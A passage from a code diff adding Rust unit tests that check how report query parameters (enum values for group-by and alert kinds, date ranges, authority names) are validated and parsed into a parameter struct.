+            Some(r#"Invalid value for argument "groupBy.1", enumeration type "FunnelGroupBy" does not contain the value "FOO""#.into())
+        );
+        assert_eq!(
+            message(params(Report::Tracking, &raw(&[("kinds", "NOPE")]), id)),
+            Some(r#"Invalid value for argument "kinds.0", enumeration type "ChildAlertKind" does not contain the value "NOPE""#.into())
+        );
+        assert_eq!(
+            message(params(
+                Report::Scorecard,
+                &raw(&[("from", "2024-01-01")]),
+                id
+            )),
+            Some("give both from and to".into())
+        );
+        assert!(matches!(
+            params(Report::Scorecard, &raw(&[("authorities", "alder,oak")]), id),
+            Err(AppError::NotFound)
+        ));
+        assert_eq!(
+            params(
+                Report::Funnel,
+                &raw(&[
+                    ("from", "2024-01-01"),
+                    ("to", "2024-12-31"),
+                    ("authorities", "alder"),
+                    ("groupBy", "AUTHORITY")
+                ]),
+                id
+            )
+            .ok(),
+            Some(Params {
+                as_of: None,
+                period: NaiveDate::from_ymd_opt(2024, 1, 1)
+                    .zip(NaiveDate::from_ymd_opt(2024, 12, 31)),
+                authorities: Some(vec![7]),
+                kinds: None,
+                group_by: vec![FunnelGroupBy::Authority],
+            })
         );
     }
 }
